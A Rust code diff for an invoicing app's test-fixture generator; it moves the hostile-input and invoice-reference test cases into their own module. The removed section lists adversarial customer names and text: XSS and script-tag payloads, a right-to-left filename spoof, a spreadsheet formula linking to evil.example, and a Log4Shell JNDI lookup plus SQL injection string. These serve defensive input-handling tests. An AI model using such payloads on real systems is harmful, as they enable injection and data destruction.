@@ -4,7 +4,7 @@
 use jiff::civil::Date;
 
 use super::{
-    Address, Books, Customer, Invoice, Odd, TaxIds, customer_id, demo, invoice_id, seconds,
+    Address, Books, Customer, Invoice, Odd, TaxIds, customer_id, demo, hostile, invoice_id, seconds,
 };
 use crate::dice::Dice;
 
@@ -12,7 +12,7 @@ const DAY: i64 = 86_400;
 /// Together with the odd ones more than three pages of a hundred.
 const PLAIN: usize = 260;
 
-struct Bench<'a> {
+pub(super) struct Bench<'a> {
     books: &'a mut Books,
     dice: &'a mut Dice,
     noon: i64,
@@ -73,7 +73,12 @@ impl Bench<'_> {
     }
 
     /// A debtor of its own and one invoice for it.
-    fn debtor(&mut self, case: &'static str, name: &str, address: Option<Address>) -> &mut Invoice {
+    pub(super) fn debtor(
+        &mut self,
+        case: &'static str,
+        name: &str,
+        address: Option<Address>,
+    ) -> &mut Invoice {
         let customer = self.customer(name, address);
         self.invoice(case, customer, "eur", 123_400)
     }
@@ -91,7 +96,7 @@ fn address(line1: &str, postal_code: &str, city: &str, country: &str) -> Address
     }
 }
 
-fn copenhagen() -> Option<Address> {
+pub(super) fn copenhagen() -> Option<Address> {
     Some(address("Nørrebrogade 12", "2200", "København N", "DK"))
 }
 
@@ -114,8 +119,8 @@ pub(super) fn fill(books: &mut Books, dice: &mut Dice, today: Date, huge_name: b
     money(&mut bench);
     states(&mut bench);
     debtors(&mut bench);
-    hostile(&mut bench, huge_name);
-    references(&mut bench);
+    hostile::texts(&mut bench, huge_name);
+    hostile::references(&mut bench);
 }
 
 fn money(bench: &mut Bench) {
@@ -375,85 +380,4 @@ fn debtors(bench: &mut Bench) {
         )
         .odd_mut()
         .customer_account = Some("acct_1SandboxCustomer".into());
-}
-
-fn hostile(bench: &mut Bench, huge_name: bool) {
-    bench.debtor(
-        "markup in the name",
-        "<img src=x onerror=alert(1)> ApS",
-        copenhagen(),
-    );
-    bench.debtor(
-        "script in the name",
-        "\"><script>alert('x')</script>",
-        copenhagen(),
-    );
-    bench.debtor(
-        "right-to-left override",
-        "Fakt\u{202e}SpA gnp.exe\u{202c} A/S",
-        copenhagen(),
-    );
-    bench.debtor(
-        "zero-width characters",
-        "Nord\u{200b}lys\u{feff} ApS",
-        copenhagen(),
-    );
-    bench.debtor(
-        "formula in the name",
-        "=HYPERLINK(\"http://evil.example\",\"Klik\")",
-        copenhagen(),
-    );
-    bench.debtor(
-        "line breaks in the name",
-        "Linje 1\r\nLinje 2\tTab",
-        copenhagen(),
-    );
-    bench.debtor(
-        "combining characters",
-        "Zoe\u{308} Cafe\u{301} ApS",
-        copenhagen(),
-    );
-    bench.debtor(
-        "a long name",
-        &"Ærø & Læsø Fællesindkøb, Håndværk og Søfart – ".repeat(6),
-        copenhagen(),
-    );
-    bench.debtor("emoji", "🍞 Bageriet 👩‍🍳 ApS", copenhagen());
-    bench
-        .debtor("markup in the text", "Tekst ApS", copenhagen())
-        .description =
-        Some("<b>Reminder</b> {{ 7*7 }} ${jndi:ldap://evil.example} '; DROP TABLE cases;--".into());
-    if huge_name {
-        bench.debtor(
-            "a name of a megabyte",
-            &"Kæmpe".repeat(175_000),
-            copenhagen(),
-        );
-    }
-}
-
-fn references(bench: &mut Bench) {
-    for (case, number) in [
-        ("number in capitals", "Inv-Case-1"),
-        ("the same number in small letters", "inv-case-1"),
-        ("slash in the number", "2026/07/0042"),
-        ("space and plus in the number", "A 1+2"),
-        ("percent sign in the number", "100%25"),
-        (
-            "non-breaking hyphens in the number",
-            "INV\u{2011}2026\u{2011}0042",
-        ),
-        ("plain hyphens in the number", "INV-2026-0042"),
-        ("umlauts in the number", "Größe-Ø1"),
-        (
-            "a number of 51 characters",
-            "LONG-0123456789-0123456789-0123456789-0123456789-01",
-        ),
-        ("dots for a number", ".."),
-        ("question mark and hash in the number", "Q?1#2"),
-    ] {
-        bench
-            .debtor(case, "Reference & Co ApS", copenhagen())
-            .number = Some(number.to_owned());
-    }
 }
